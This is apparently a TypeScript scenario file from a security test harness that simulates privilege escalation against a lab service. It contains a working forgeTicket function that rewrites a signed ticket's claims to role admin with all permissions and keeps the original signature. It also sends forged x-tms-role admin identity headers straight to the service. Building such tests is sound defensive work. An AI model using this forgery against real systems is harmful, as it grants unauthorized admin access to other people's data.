import { authHeaders } from '../../client/call.js';
import { login } from '../../client/login.js';
import type { Session } from '../../client/session.js';
import { ACTIONS } from '../../policy/types.js';
import { attempt } from '../http.js';
import { directTargetUrl, gatewayTargetPath, gatewayTargetUrl, TARGET } from '../target.js';
import { judgeByData, type Scenario } from '../types.js';

const ADMIN_PERMS = { '*': [...ACTIONS] };

/**
 * The attacker rewrites the role inside its own ticket (admin, every database) and re-encodes it,
 * keeping the security service's signature. In none there is no ticket: it forges the identity
 * headers a service trusts.
 */
export const forgedRole: Scenario = {
  id: 'privilege.forged-role',
  title: 'Edit the role inside its own ticket (or the identity headers) to become admin',
  paperAttack: 2,
  technique: 'T1134',
  description:
    'The attacker logs in with its own low-role account, decodes its ticket, sets `role: admin` and `perms: {"*": [read, query, write]}`, re-encodes the claims and keeps the original signature; it then reads a customer record through the gateway (in trusted with a valid proof made with its own session key) and directly at the service. In none it sends `x-tms-role: admin` and all-database perms straight to the service.',
  evidence: 'The status of each read with the forged credential: succeeded when the record comes back.',
  expected: { none: 'succeeded', paper: 'blocked', trusted: 'blocked' },

  async setup(ctx) {
    ctx.scratch.session = (
      await login(ctx.lab, ctx.attacker.name, ctx.attacker.password, ctx.attacker.privateKey)
    ).session;
  },

  async detonate(ctx) {
    const session = ctx.scratch.session as Session;
    if (ctx.defences.request === 'basic') {
      const forged = {
        'x-tms-user': ctx.attacker.name,
        'x-tms-role': 'admin',
        'x-tms-perms': JSON.stringify(ADMIN_PERMS),
      };
      await attempt(ctx, {
        action: 'send forged admin identity headers through the gateway with its own password',
        url: gatewayTargetUrl(ctx.lab),
        headers: { ...authHeaders(session, 'GET', gatewayTargetPath(), undefined), ...forged },
        dispatcher: ctx.client,
        marker: TARGET.marker,
      });
      await attempt(ctx, {
        action: 'send forged admin identity headers directly to the service',
        url: directTargetUrl(ctx.lab),
        headers: forged,
        dispatcher: ctx.client,
        marker: TARGET.marker,
      });
      return;
    }
    const ticket = forgeTicket(session.ticket as string);
    const forgedSession: Session = { ...session, ticket };
    await attempt(ctx, {
      action:
        ctx.defences.request === 'bound'
          ? 'read through the gateway with the edited ticket and a valid proof from its own session key'
          : 'read through the gateway with the edited ticket',
      url: gatewayTargetUrl(ctx.lab),
      headers: authHeaders(forgedSession, 'GET', gatewayTargetPath(), undefined),
      dispatcher: ctx.client,
      marker: TARGET.marker,
    });
    await attempt(ctx, {
      action: 'read directly at the service with the edited ticket',
      url: directTargetUrl(ctx.lab),
      headers: { authorization: `Bearer ${ticket}` },
      dispatcher: ctx.client,
      marker: TARGET.marker,
    });
  },

  judge: judgeByData,
};

/** The same ticket with role admin and every permission, the original header and signature kept. */
export function forgeTicket(ticket: string): string {
  const [header, payload, signature] = ticket.split('.') as [string, string, string];
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as Record<string, unknown>;
  const edited = { ...claims, role: 'admin', perms: ADMIN_PERMS };
  return `${header}.${Buffer.from(JSON.stringify(edited), 'utf8').toString('base64url')}.${signature}`;
}
